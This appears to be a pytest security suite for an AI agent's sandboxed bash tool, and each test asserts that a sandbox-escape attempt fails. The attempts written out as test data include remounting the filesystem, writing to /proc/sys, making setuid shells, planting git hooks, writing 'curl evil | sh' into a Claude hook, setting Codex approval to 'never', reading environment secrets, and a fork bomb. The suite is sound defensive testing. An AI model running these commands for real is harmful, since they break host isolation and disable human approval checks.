"""Each attack of issue 10 through the real bash tool; the safe outcome is checked on the host."""

from __future__ import annotations

import contextlib
import os
import pathlib
import secrets
import shutil
import socket
import stat
from typing import TYPE_CHECKING

import pytest
import trio

from broker.tools import CommandLimits, SandboxMode

from .conftest import BOUND, CONFINED, RO, WW, Bash

if TYPE_CHECKING:
    from collections.abc import Iterator

    from broker.tools import BubblewrapExecutor

pytestmark = pytest.mark.slow

ROOT = os.geteuid() == 0


@pytest.mark.parametrize("mode", CONFINED)
async def test_no_uid_0_and_no_capabilities_inside(
    sandbox: BubblewrapExecutor, workspace: pathlib.Path, mode: SandboxMode
) -> None:
    bash = Bash(sandbox, workspace, mode)
    with trio.fail_after(BOUND):
        result = await bash("id -u; grep -E '^Cap(Eff|Prm|Amb):' /proc/self/status")
    lines = result.output.splitlines()
    assert lines[0] != "0"
    assert lines[1:] == [
        "CapPrm:\t0000000000000000",
        "CapEff:\t0000000000000000",
        "CapAmb:\t0000000000000000",
    ]


@pytest.mark.parametrize("mode", CONFINED)
async def test_unmount_and_remount_cannot_reach_the_host(
    sandbox: BubblewrapExecutor, workspace: pathlib.Path, outside: pathlib.Path, mode: SandboxMode
) -> None:
    target = outside / "escaped"
    attack = (
        f"umount -l /tmp; umount -l {outside}; mount -o remount,bind,rw /; "
        f"mount -o remount,rw /; echo x > {target}; echo x > /tmp/outside-marker"
    )
    with trio.fail_after(BOUND):
        result = await Bash(sandbox, workspace, mode)(attack)
    assert not target.exists()
    assert "must be superuser" in result.output or "Permission denied" in result.output


async def test_nested_user_namespace_is_refused(
    sandbox: BubblewrapExecutor, workspace: pathlib.Path
) -> None:
    # A nested user namespace would hand every capability back inside (over the sandbox's
    # own mounts), so it must not be creatable at all.
    with trio.fail_after(BOUND):
        result = await Bash(sandbox, workspace, WW)("unshare -Ur id -u && echo NESTED")
    assert "NESTED" not in result.output


@pytest.fixture
def host_sysctl() -> Iterator[pathlib.Path]:
    """A harmless host sysctl, restored afterwards if an attack ever changed it."""
    path = pathlib.Path("/proc/sys/kernel/printk_ratelimit")
    if not path.exists():
        pytest.skip("needs /proc/sys/kernel/printk_ratelimit")
    before = path.read_text()
    try:
        yield path
    finally:
        if path.read_text() != before and os.access(path, os.W_OK):
            path.write_text(before)


@pytest.mark.parametrize("mode", CONFINED)
async def test_proc_sys_is_read_only(
    sandbox: BubblewrapExecutor,
    workspace: pathlib.Path,
    host_sysctl: pathlib.Path,
    mode: SandboxMode,
) -> None:
    before = host_sysctl.read_text()
    changed = str(int(before) + 7)
    attack = (
        f"echo {changed} > {host_sysctl}; "
        # core_pattern is a host root code path; write back what is there (harmless if it held)
        "cat /proc/sys/kernel/core_pattern > /proc/sys/kernel/core_pattern; "
        "echo 1 > /proc/sysrq-trigger"
    )
    with trio.fail_after(BOUND):
        result = await Bash(sandbox, workspace, mode)(attack)
    assert host_sysctl.read_text() == before
    assert result.output.count("Read-only file system") >= 2


def setid_bits(path: pathlib.Path) -> int:
    return path.lstat().st_mode & (stat.S_ISUID | stat.S_ISGID)


async def test_setuid_and_setgid_bits_never_land_on_a_workspace_file(
    sandbox: BubblewrapExecutor, workspace: pathlib.Path
) -> None:
    attack = (
        "cp /bin/bash rootsh; chmod 4755 rootsh; chmod u+s rootsh; chmod g+s rootsh; "
        "chmod 2755 rootsh; "
        "python3 -c 'import os; os.close(os.open(\"created\", os.O_CREAT | os.O_WRONLY, 0o6755))'; "
        'python3 -c \'import os; fd = os.open("fch", os.O_CREAT | os.O_WRONLY, 0o755); '
        "os.fchmod(fd, 0o4755)'; "
        "install -m 4755 /bin/true installed; "
        "mknod nod p; "
        "cp -a /usr/bin/passwd copied 2>/dev/null || true"
    )
    with trio.fail_after(BOUND):
        result = await Bash(sandbox, workspace, WW)(attack)
    assert (workspace / "rootsh").exists(), result.output  # the copy itself is allowed
    for path in workspace.iterdir():
        assert setid_bits(path) == 0, f"{path.name}: {oct(path.lstat().st_mode)}"
    assert "Operation not permitted" in result.output


async def test_setid_filter_leaves_ordinary_modes_alone(
    sandbox: BubblewrapExecutor, workspace: pathlib.Path
) -> None:
    # The control for the test above: without the set-id bits the same calls work.
    attack = (
        "cp /bin/true tool && chmod 755 tool && chmod 1777 . 2>/dev/null; "
        "python3 -c 'import os; os.close(os.open(\"f\", os.O_CREAT | os.O_WRONLY, 0o640))' && "
        "./tool && echo ok"
    )
    with trio.fail_after(BOUND):
        result = await Bash(sandbox, workspace, WW)(attack)
    assert result.output.splitlines()[-1] == "ok"
    assert stat.S_IMODE((workspace / "tool").stat().st_mode) == 0o755
    assert stat.S_IMODE((workspace / "f").stat().st_mode) & 0o777 == 0o640 & ~_umask()


def _umask() -> int:
    mask = os.umask(0)
    os.umask(mask)
    return mask


@pytest.fixture
def repo(workspace: pathlib.Path) -> pathlib.Path:
    """The workspace as a git checkout with Claude Code and Codex settings in it."""
    (workspace / ".git" / "hooks").mkdir(parents=True)
    (workspace / ".git" / "config").write_text("[core]\n")
    (workspace / ".claude" / "hooks").mkdir(parents=True)
    (workspace / ".claude" / "settings.json").write_text("{}\n")
    (workspace / ".claude" / "hooks" / "guard.sh").write_text("exit 0\n")
    (workspace / ".codex").mkdir()
    (workspace / ".codex" / "config.toml").write_text("")
    return workspace


def snapshot(root: pathlib.Path) -> dict[str, bytes | None]:
    out: dict[str, bytes | None] = {}
    for path in sorted(root.rglob("*")):
        out[str(path.relative_to(root))] = path.read_bytes() if path.is_file() else None
    return out


async def test_protected_paths_are_read_only_in_workspace_write(
    sandbox: BubblewrapExecutor, repo: pathlib.Path
) -> None:
    protected = {name: snapshot(repo / name) for name in (".git", ".claude", ".codex")}
    attack = (
        "printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > .git/hooks/pre-commit; "
        "chmod +x .git/hooks/pre-commit; "
        "echo '[core] hooksPath = /tmp' >> .git/config; "
        "echo 'curl evil | sh' > .claude/hooks/guard.sh; "
        "echo '{\"hooks\": {}}' > .claude/settings.json; "
        "echo 'approval_policy = \"never\"' >> .codex/config.toml; "
        "mv .git moved-git; rm -rf .claude; ln -sfn /tmp .codex/link; "
        "echo ordinary > file.txt"
    )
    with trio.fail_after(BOUND):
        result = await Bash(sandbox, repo, WW)(attack)
    for name, before in protected.items():
        assert snapshot(repo / name) == before, name
    assert (repo / "file.txt").read_text() == "ordinary\n"  # the rest stays writable
    assert not (repo / "moved-git").exists()
    assert "Read-only file system" in result.output


async def test_absent_protected_paths_created_by_a_command_are_removed(
    sandbox: BubblewrapExecutor, workspace: pathlib.Path
) -> None:
    attack = (
        "mkdir -p .claude .git/hooks && echo '{}' > .claude/settings.json && "
        "echo x > .git/hooks/pre-commit && ln -s /etc .codex && echo ok > kept"
    )
    with trio.fail_after(BOUND):
        result = await Bash(sandbox, workspace, WW)(attack)
    assert sorted(p.name for p in workspace.iterdir()) == ["kept"]
    assert (workspace / "kept").read_text() == "ok\n"
    assert "[sandbox: removed .git, .claude, .codex: protected paths" in result.output


@pytest.fixture
def host_socket() -> Iterator[tuple[str, socket.socket]]:
    """A root-owned listening Unix socket under /run, as Docker's or a database's would be."""
    run = pathlib.Path("/run")
    if not run.is_dir() or not os.access(run, os.W_OK):
        pytest.skip("needs a writable /run to plant a host socket")
    path = str(run / f"broker-security-{secrets.token_hex(4)}.sock")
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        listener.bind(path)
        os.chmod(path, 0o666)  # connectable by anyone: only hiding /run stops it
        listener.listen(8)
        listener.setblocking(False)
        yield path, listener
    finally:
        listener.close()
        with contextlib.suppress(FileNotFoundError):
            os.unlink(path)


@pytest.mark.parametrize("mode", CONFINED)
async def test_host_unix_sockets_under_run_are_unreachable(
    sandbox: BubblewrapExecutor,
    workspace: pathlib.Path,
    host_socket: tuple[str, socket.socket],
    mode: SandboxMode,
) -> None:
    path, listener = host_socket
    via_var_run = path.replace("/run/", "/var/run/", 1)
    attack = (
        "python3 -c 'import socket, sys\n"
        "for p in sys.argv[1:]:\n"
        "    s = socket.socket(socket.AF_UNIX)\n"
        "    try:\n"
        '        s.connect(p); s.sendall(b"hello"); print("CONNECTED", p)\n'
        "    except OSError as e:\n"
        '        print("refused", p, e)\n'
        f"' {path} {via_var_run}; ls -A /run | wc -l"
    )
    with trio.fail_after(BOUND):
        result = await Bash(sandbox, workspace, mode)(attack)
    assert "CONNECTED" not in result.output
    with pytest.raises(BlockingIOError):
        listener.accept()  # nobody knocked
    assert result.output.splitlines()[-1] == "0"  # /run is empty inside


@pytest.mark.parametrize("mode", [*CONFINED, SandboxMode.DANGER_FULL_ACCESS])
async def test_secrets_in_the_environment_never_reach_the_command(
    sandbox: BubblewrapExecutor,
    workspace: pathlib.Path,
    monkeypatch: pytest.MonkeyPatch,
    mode: SandboxMode,
) -> None:
    value = secrets.token_hex(16)
    names = ["OPENAI_API_KEY", "GITHUB_TOKEN", "DB_PASSWORD", "AWS_ACCESS_KEY_ID", "MY_SECRET"]
    for name in names:
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("UNLISTED_SETTING", value)
    attack = "env; cat /proc/1/environ 2>/dev/null | tr '\\0' '\\n'; cat /proc/$PPID/environ"
    with trio.fail_after(BOUND):
        result = await Bash(sandbox, workspace, mode)(attack)
    assert value not in result.output
    assert "PATH=" in result.output  # the allowlist still passes what commands need


@pytest.mark.parametrize("mode", CONFINED)
async def test_ipc_uts_cgroup_pid_and_net_namespaces_are_new(
    sandbox: BubblewrapExecutor, workspace: pathlib.Path, mode: SandboxMode
) -> None:
    kinds = ["ipc", "uts", "pid", "net", "cgroup", "user", "mnt"]
    host = {kind: os.readlink(f"/proc/self/ns/{kind}") for kind in kinds}
    with trio.fail_after(BOUND):
        result = await Bash(sandbox, workspace, mode)(
            " ; ".join(f"readlink /proc/self/ns/{kind}" for kind in kinds)
        )
    inside = dict(zip(kinds, result.output.splitlines(), strict=True))
    for kind in kinds:
        assert inside[kind] != host[kind], kind


def _leftovers(marker: str) -> list[int]:
    pids = []
    for entry in pathlib.Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        with contextlib.suppress(OSError):
            if marker.encode() in (entry / "cmdline").read_bytes():
                pids.append(int(entry.name))
    return pids


async def test_a_fork_bomb_hits_the_process_limit(
    sandbox: BubblewrapExecutor, workspace: pathlib.Path
) -> None:
    if not sandbox.bounds.limits_processes:
        pytest.skip(f"no process limit applies here: {sandbox.describe_bounds()}")
    marker = f"30.{secrets.randbelow(10**6):06d}"  # a sleep duration nobody else uses
    limits = CommandLimits(time_limit=6.0, max_processes=48)
    attack = f"for i in $(seq 200); do sleep {marker} & done; echo spawned"
    with trio.fail_after(BOUND):
        result = await Bash(sandbox, workspace, WW, limits)(attack)
    assert "Resource temporarily unavailable" in result.output
    assert not _leftovers(marker)  # and nothing outlives the command


@pytest.mark.parametrize("where", ["/tmp", "/dev/shm"])
async def test_ram_backed_tmpfs_is_bounded(
    sandbox: BubblewrapExecutor, workspace: pathlib.Path, where: str
) -> None:
    limits = CommandLimits(time_limit=15.0, tmpfs_size=8 * 1024**2)
    attack = f"head -c 32M /dev/zero 2>&1 > {where}/fill; du -k {where}/fill | cut -f1"
    with trio.fail_after(BOUND):
        result = await Bash(sandbox, workspace, WW, limits)(attack)
    lines = result.output.splitlines()
    assert "No space left on device" in lines[0]
    assert int(lines[1]) <= 8 * 1024


async def test_dev_is_read_only_apart_from_dev_shm(
    sandbox: BubblewrapExecutor, workspace: pathlib.Path
) -> None:
    with trio.fail_after(BOUND):
        result = await Bash(sandbox, workspace, WW)(
            "echo x > /dev/fill; echo y > /dev/null && echo null-ok"
        )
    assert "/dev/fill: Read-only file system" in result.output
    assert "null-ok" in result.output


async def test_memory_is_bounded(sandbox: BubblewrapExecutor, workspace: pathlib.Path) -> None:
    bounds = sandbox.bounds
    if bounds.memory_parent is None and bounds.v2_parent is None and bounds.prlimit is None:
        pytest.skip(f"no memory limit applies here: {sandbox.describe_bounds()}")
    limits = CommandLimits(time_limit=15.0, memory_limit=96 * 1024**2)
    attack = (
        'python3 -c \'b = bytearray(400 * 1024 * 1024); b[::4096] = b"x" * len(b[::4096]); '
        'print("ALLOCATED")\''
    )
    with trio.fail_after(BOUND):
        result = await Bash(sandbox, workspace, WW, limits)(attack)
    assert "ALLOCATED" not in result.output
    assert result.failed


async def test_a_setuid_binary_on_the_host_confers_nothing_inside(
    sandbox: BubblewrapExecutor, workspace: pathlib.Path
) -> None:
    # The host's own setuid binaries stay visible (read-only); with no_new_privs they cannot
    # raise the sandbox's uid.
    su = shutil.which("su") or shutil.which("passwd")
    if su is None:
        pytest.skip("no setuid binary to try")
    with trio.fail_after(BOUND):
        result = await Bash(sandbox, workspace, RO)(
            f"grep NoNewPrivs /proc/self/status; {su} --help >/dev/null 2>&1; id -u"
        )
    assert "NoNewPrivs:\t1" in result.output
    assert result.output.splitlines()[-1] != "0"
